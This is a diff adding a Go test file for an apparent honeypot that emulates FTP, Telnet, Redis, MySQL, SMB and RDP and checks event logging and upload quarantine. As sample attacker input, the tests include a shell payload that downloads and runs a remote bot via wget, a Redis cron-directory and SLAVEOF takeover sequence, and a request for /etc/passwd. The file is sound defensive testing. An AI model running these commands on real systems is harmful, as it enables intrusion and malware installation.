@@ -1,0 +1,410 @@
+package tcppot
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/vallum/vallum/internal/sensor"
+)
+
+type events struct {
+	mu sync.Mutex
+	ev []sensor.Event
+}
+
+func (e *events) Emit(ev sensor.Event) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.ev = append(e.ev, ev)
+}
+
+// of returns the events of kind (all kinds if ""), waiting up to 5s for
+// at least n.
+func (e *events) of(t testing.TB, kind string, n int) []sensor.Event {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		e.mu.Lock()
+		var out []sensor.Event
+		for _, ev := range e.ev {
+			if kind == "" || ev.Kind == kind {
+				out = append(out, ev)
+			}
+		}
+		e.mu.Unlock()
+		if len(out) >= n || time.Now().After(deadline) {
+			return out
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// pots serves every protocol on its own loopback port.
+type pots struct {
+	s     *Server
+	ev    *events
+	addr  map[string]string
+	dir   string
+	close func()
+}
+
+func startPots(t testing.TB, cfg Config) *pots {
+	t.Helper()
+	dir := t.TempDir()
+	ev := &events{}
+	s, err := New(cfg, sensor.Env{Name: "test", Sink: ev, Dir: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := &pots{s: s, ev: ev, addr: map[string]string{}, dir: dir}
+	ctx, cancel := context.WithCancel(context.Background())
+	var wg sync.WaitGroup
+	for _, proto := range Protocols {
+		ln, err := net.Listen("tcp", "127.0.0.1:0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		p.addr[proto] = ln.Addr().String()
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			if err := s.ServeListener(ctx, proto, ln); err != nil {
+				t.Errorf("%s: %v", proto, err)
+			}
+		}()
+	}
+	p.close = func() { cancel(); wg.Wait() }
+	t.Cleanup(p.close)
+	return p
+}
+
+func (p *pots) dial(t *testing.T, proto string) (net.Conn, *bufio.Reader) {
+	t.Helper()
+	c, err := net.Dial("tcp", p.addr[proto])
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.SetDeadline(time.Now().Add(10 * time.Second))
+	t.Cleanup(func() { c.Close() })
+	return c, bufio.NewReader(c)
+}
+
+func expectLine(t *testing.T, r *bufio.Reader, prefix string) string {
+	t.Helper()
+	l, err := r.ReadString('\n')
+	if err != nil || !strings.HasPrefix(l, prefix) {
+		t.Fatalf("got %q (%v), want a line starting %q", l, err, prefix)
+	}
+	return l
+}
+
+func TestFTP(t *testing.T) {
+	cfg := Config{}
+	cfg.FTP.Anonymous = true
+	p := startPots(t, cfg)
+	c, r := p.dial(t, FTP)
+	expectLine(t, r, "220 (vsFTPd 3.0.3)\r\n")
+	for _, step := range []struct{ send, want string }{
+		{"SYST", "215 UNIX Type: L8"},
+		{"PWD", "530 Please login"},
+		{"USER root", "331 "},
+		{"PASS toor", "530 Login incorrect."},
+		{"USER anonymous", "331 "},
+		{"PASS me@example.com", "230 Login successful."},
+		{"PWD", `257 "/"`},
+		{"PORT 10,0,0,1,4,1", "500 Illegal PORT command."},
+		{"EPRT |1|10.0.0.1|1025|", "500 Illegal PORT command."},
+		{"RETR /etc/passwd", "550 "},
+		{"TYPE I", "200 "},
+	} {
+		fmt.Fprintf(c, "%s\r\n", step.send)
+		expectLine(t, r, step.want)
+	}
+	// A passive upload lands in the quarantine.
+	fmt.Fprintf(c, "PASV\r\n")
+	l := expectLine(t, r, "227 Entering Passive Mode (127,0,0,1,")
+	var h1, h2, h3, h4, p1, p2 int
+	fmt.Sscanf(l[strings.IndexByte(l, '(')+1:], "%d,%d,%d,%d,%d,%d", &h1, &h2, &h3, &h4, &p1, &p2)
+	dc, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p1<<8|p2))
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Fprintf(c, "STOR x.sh\r\n")
+	expectLine(t, r, "150 ")
+	payload := "#!/bin/sh\nwget http://198.51.100.1/bot -O- | sh\n"
+	io.WriteString(dc, payload)
+	dc.Close()
+	expectLine(t, r, "226 Transfer complete.")
+	fmt.Fprintf(c, "QUIT\r\n")
+	expectLine(t, r, "221 ")
+
+	up := p.ev.of(t, sensor.KindUpload, 1)
+	if len(up) != 1 || len(up[0].Payloads) != 1 || up[0].Payloads[0].Size != int64(len(payload)) || up[0].Payloads[0].Name != "x.sh" {
+		t.Fatalf("upload events %+v", up)
+	}
+	kept, err := os.ReadFile(filepath.Join(p.dir, "quarantine", up[0].Payloads[0].SHA256))
+	if err != nil || string(kept) != payload {
+		t.Errorf("quarantined upload %q, %v", kept, err)
+	}
+	auth := p.ev.of(t, sensor.KindAuth, 2)
+	if len(auth) != 2 || auth[0].Credentials.Username != "root" || auth[0].Credentials.Password != "toor" || auth[0].Credentials.Accepted ||
+		auth[1].Credentials.Username != "anonymous" || !auth[1].Credentials.Accepted || auth[0].Sensor != "test/ftp" || auth[0].Protocol != "ftp" {
+		t.Errorf("auth events %+v", auth)
+	}
+	for _, ev := range p.ev.of(t, sensor.KindCommand, 1) {
+		if strings.Contains(ev.Command, "toor") {
+			t.Errorf("a password went into a command event: %q", ev.Command)
+		}
+	}
+}
+
+func TestFTPLimits(t *testing.T) {
+	p := startPots(t, Config{})
+	c, r := p.dial(t, FTP)
+	expectLine(t, r, "220 ")
+	// Three failed logins end the connection.
+	for i := range 3 {
+		fmt.Fprintf(c, "USER u%d\r\nPASS p\r\n", i)
+		expectLine(t, r, "331 ")
+		expectLine(t, r, "530 Login incorrect.")
+	}
+	if _, err := r.ReadByte(); err != io.EOF {
+		t.Errorf("after three failures: %v, want EOF", err)
+	}
+	// A line over the bound ends the connection.
+	c, r = p.dial(t, FTP)
+	expectLine(t, r, "220 ")
+	c.Write([]byte("USER " + strings.Repeat("A", 5000) + "\r\n"))
+	expectLine(t, r, "500 Input line was too long.")
+}
+
+func TestTelnet(t *testing.T) {
+	p := startPots(t, Config{Hostname: "nas01"})
+	c, r := p.dial(t, Telnet)
+	open := make([]byte, len(telnetOpening))
+	if _, err := io.ReadFull(r, open); err != nil || !bytes.Equal(open, telnetOpening) {
+		t.Fatalf("opening %x, want %x", open, telnetOpening)
+	}
+	// WONT to every DO, with a subnegotiation thrown in.
+	c.Write([]byte{tIAC, tWONT, 24, tIAC, tWONT, 32, tIAC, tSB, 24, 0, 'x', tIAC, tSE})
+	readUntil(t, r, "nas01 login: ")
+	c.Write([]byte("ad\x7fdmin\r\x00"))
+	readUntil(t, r, "Password: ")
+	c.Write([]byte("s3cr\xff\xffet\r\n"))
+	readUntil(t, r, "Login incorrect")
+	auth := p.ev.of(t, sensor.KindAuth, 1)
+	if len(auth) != 1 || auth[0].Credentials.Username != "admin" || auth[0].Credentials.Password != "s3cr\xffet" {
+		t.Errorf("auth events %+v", auth)
+	}
+}
+
+func readUntil(t *testing.T, r *bufio.Reader, s string) {
+	t.Helper()
+	var got []byte
+	for !bytes.HasSuffix(got, []byte(s)) {
+		b, err := r.ReadByte()
+		if err != nil {
+			t.Fatalf("waiting for %q: got %q, %v", s, got, err)
+		}
+		got = append(got, b)
+	}
+}
+
+func TestRedis(t *testing.T) {
+	p := startPots(t, Config{})
+	c, r := p.dial(t, Redis)
+	for _, step := range []struct{ send, want string }{
+		{"*1\r\n$4\r\nPING\r\n", "+PONG\r\n"},
+		{"*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n", "-ERR AUTH <password> called without any password configured"},
+		{"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\nhello\r\n", "+OK\r\n"},
+		{"GET k\r\n", "$5\r\n"},
+		{"", "hello\r\n"},
+		{"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", "+OK\r\n"},
+		{"SLAVEOF 198.51.100.7 6379\r\n", "+OK\r\n"},
+		{"GET / HTTP/1.0\r\n", "-ERR wrong number of arguments for 'get' command\r\n"},
+		{"FLUSHSCRIPTS now\r\n", "-ERR unknown command 'FLUSHSCRIPTS'"},
+		{"*1\r\n$4\r\ninfo\r\n", "$"},
+		{"", "# Server\r\n"},
+		{"", "redis_version:7.0.15\r\n"},
+	} {
+		if step.send != "" {
+			io.WriteString(c, step.send)
+		}
+		expectLine(t, r, step.want)
+	}
+	c.Close()
+	cmds := p.ev.of(t, sensor.KindCommand, 9)
+	var got []string
+	for _, e := range cmds {
+		got = append(got, e.Command)
+	}
+	if !strings.Contains(strings.Join(got, "|"), "CONFIG SET dir /var/spool/cron/|SLAVEOF 198.51.100.7 6379") {
+		t.Errorf("commands %q", got)
+	}
+	if a := p.ev.of(t, sensor.KindAuth, 1); len(a) != 1 || a[0].Credentials.Password != "foobar" {
+		t.Errorf("auth %+v", a)
+	}
+	// A bad multibulk ends the connection with a protocol error.
+	c, r = p.dial(t, Redis)
+	io.WriteString(c, "*99999\r\n")
+	expectLine(t, r, "-ERR Protocol error: invalid multibulk length")
+}
+
+// mysqlHandshake builds a HandshakeResponse41 as a 5.7+ client sends it.
+func mysqlHandshake(user, db, plugin string, auth []byte) []byte {
+	caps := uint32(myProtocol41 | mySecureConn | myPluginAuth | myConnectWithDB | myLongPassword)
+	b := binary.LittleEndian.AppendUint32(nil, caps)
+	b = binary.LittleEndian.AppendUint32(b, 1<<24)
+	b = append(b, 0x21)
+	b = append(b, make([]byte, 23)...)
+	b = append(append(b, user...), 0)
+	b = append(append(b, byte(len(auth))), auth...)
+	b = append(append(b, db...), 0)
+	return append(append(b, plugin...), 0)
+}
+
+func TestMySQL(t *testing.T) {
+	p := startPots(t, Config{})
+	c, r := p.dial(t, MySQL)
+	seq, greet, err := readMyPacket(r)
+	if err != nil || seq != 0 || greet[0] != 10 || !bytes.HasPrefix(greet[1:], []byte("8.0.36-0ubuntu0.22.04.1\x00")) || !bytes.HasSuffix(greet, []byte("caching_sha2_password\x00")) {
+		t.Fatalf("greeting %q, %v", greet, err)
+	}
+	c.Write(myPacket(1, mysqlHandshake("root", "wordpress", "mysql_native_password", bytes.Repeat([]byte{0xab}, 20))))
+	seq, errp, err := readMyPacket(r)
+	if err != nil || seq != 2 || errp[0] != 0xff || binary.LittleEndian.Uint16(errp[1:]) != 1045 || !strings.Contains(string(errp), "#28000Access denied for user 'root'@'127.0.0.1' (using password: YES)") {
+		t.Fatalf("answer %d %q, %v", seq, errp, err)
+	}
+	a := p.ev.of(t, sensor.KindAuth, 1)
+	if len(a) != 1 || a[0].Credentials.Username != "root" || a[0].Credentials.Method != "mysql" || a[0].Details["auth_plugin"] != "mysql_native_password" ||
+		a[0].Details["database"] != "wordpress" || a[0].Details["auth_response"] != strings.Repeat("ab", 20) || len(a[0].Details["salt"]) != 20 {
+		t.Errorf("auth %+v", a)
+	}
+}
+
+// nmapSMBProbe is nmap's SMBProgNeg probe.
+const nmapSMBProbe = "\x00\x00\x00\xa4\xff\x53\x4d\x42\x72\x00\x00\x00\x00\x08\x01\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x40\x06\x00\x00\x01\x00\x00\x81\x00\x02PC NETWORK PROGRAM 1.0\x00\x02MICROSOFT NETWORKS 1.03\x00\x02MICROSOFT NETWORKS 3.0\x00\x02LANMAN1.0\x00\x02LM1.2X002\x00\x02Samba\x00\x02NT LANMAN 1.0\x00\x02NT LM 0.12\x00"
+
+// smb2NegotiateRequest is an SMB2 NEGOTIATE offering 2.0.2 to 3.1.1.
+func smb2NegotiateRequest() []byte {
+	h := make([]byte, 64)
+	copy(h, "\xfeSMB")
+	binary.LittleEndian.PutUint16(h[4:], 64)
+	b := make([]byte, 36)
+	binary.LittleEndian.PutUint16(b, 36)
+	binary.LittleEndian.PutUint16(b[2:], 5)
+	binary.LittleEndian.PutUint16(b[4:], 1)
+	copy(b[12:28], "0123456789abcdef")
+	for _, d := range []uint16{0x0202, 0x0210, 0x0300, 0x0302, 0x0311} {
+		b = binary.LittleEndian.AppendUint16(b, d)
+	}
+	return netbios(append(h, b...))
+}
+
+func TestSMB(t *testing.T) {
+	p := startPots(t, Config{Hostname: "FILESRV", Workgroup: "CORP"})
+	c, r := p.dial(t, SMB)
+	io.WriteString(c, nmapSMBProbe)
+	m, err := readNetBIOS(r)
+	if err != nil || !bytes.HasPrefix(m, []byte("\xffSMBr\x00\x00\x00\x00\x88\x01\x40")) || m[32] != 17 || binary.LittleEndian.Uint16(m[33:]) != 7 {
+		t.Fatalf("SMB1 answer %q, %v", m, err)
+	}
+	if !bytes.HasSuffix(m, append(utf16z("CORP"), utf16z("FILESRV")...)) {
+		t.Errorf("SMB1 answer lacks the workgroup and server name: %q", m)
+	}
+	c, r = p.dial(t, SMB)
+	c.Write(smb2NegotiateRequest())
+	m, err = readNetBIOS(r)
+	if err != nil || !bytes.HasPrefix(m, []byte("\xfeSMB")) || binary.LittleEndian.Uint16(m[64:]) != 65 || binary.LittleEndian.Uint16(m[68:]) != 0x0302 || !bytes.HasSuffix(m, spnegoInit) {
+		t.Fatalf("SMB2 answer %x, %v", m, err)
+	}
+	ev := p.ev.of(t, sensor.KindRequest, 2)
+	if len(ev) != 2 || !strings.HasSuffix(ev[0].Details["dialects"], "NT LM 0.12") || ev[1].Details["dialects"] != "0x0202,0x0210,0x0300,0x0302,0x0311" || ev[1].Details["client_guid"] != fmt.Sprintf("%x", "0123456789abcdef") {
+		t.Errorf("events %+v", ev)
+	}
+}
+
+func TestRDP(t *testing.T) {
+	p := startPots(t, Config{})
+	c, r := p.dial(t, RDP)
+	io.WriteString(c, "\x03\x00\x00\x33\x2e\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administrator\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
+	cc := make([]byte, 19)
+	if _, err := io.ReadFull(r, cc); err != nil || !bytes.Equal(cc, []byte("\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x02\x00\x00\x00")) {
+		t.Fatalf("connection confirm %x, %v", cc, err)
+	}
+	c, r = p.dial(t, RDP)
+	io.WriteString(c, "\x03\x00\x00\x0b\x06\xe0\x00\x00\x00\x00\x00")
+	cc = make([]byte, 11)
+	if _, err := io.ReadFull(r, cc); err != nil || !bytes.Equal(cc, []byte("\x03\x00\x00\x0b\x06\xd0\x00\x00\x12\x34\x00")) {
+		t.Fatalf("legacy connection confirm %x, %v", cc, err)
+	}
+	ev := p.ev.of(t, sensor.KindRequest, 2)
+	if len(ev) != 2 || ev[0].Details["user"] != "administrator" || ev[0].Details["requested_protocols"] != "hybrid,ssl" || ev[1].Details["requested_protocols"] != "rdp" {
+		t.Errorf("events %+v", ev)
+	}
+}
+
+// TestConnectionCaps checks the per-source cap across services.
+func TestConnectionCaps(t *testing.T) {
+	p := startPots(t, Config{Limits: sensor.Limits{MaxConnsPerSource: 3}})
+	var cs []net.Conn
+	for range 3 {
+		c, r := p.dial(t, FTP)
+		expectLine(t, r, "220 ")
+		cs = append(cs, c)
+	}
+	c, r := p.dial(t, Redis)
+	io.WriteString(c, "PING\r\n")
+	if _, err := r.ReadString('\n'); err == nil {
+		t.Error("a fourth connection from one address was served")
+	}
+	cs[0].Close()
+	deadline := time.Now().Add(5 * time.Second)
+	for p.s.gate.Held() > 2 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	c, r = p.dial(t, Redis)
+	io.WriteString(c, "PING\r\n")
+	expectLine(t, r, "+PONG")
+}
+
+func TestConfigErrors(t *testing.T) {
+	for _, tt := range []struct {
+		cfg  Config
+		want string
+	}{
+		{Config{Hostname: "a-very-long-host-name"}, "at most 15"},
+		{Config{Redis: Service{Version: "7 0"}}, "redis version"},
+		{Config{Limits: sensor.Limits{IdleTimeout: -1}}, "must not be negative"},
+	} {
+		if _, err := New(tt.cfg, sensor.Env{Sink: &events{}}); err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("New(%+v): %v, want %q", tt.cfg, err, tt.want)
+		}
+	}
+	p := startPots(t, Config{})
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := p.s.ServeListener(context.Background(), "gopher", ln); err == nil || !strings.Contains(err.Error(), `unknown protocol "gopher"`) {
+		t.Errorf("ServeListener(gopher): %v", err)
+	}
+	c := Config{}.WithDefaults()
+	if c.FTP.Listen[0] != "127.0.0.1:2121" || c.MySQL.Version != "8.0.36-0ubuntu0.22.04.1" || c.Hostname != DefaultHostname {
+		t.Errorf("defaults %+v", c)
+	}
+}
+
+var _ = strconv.Itoa
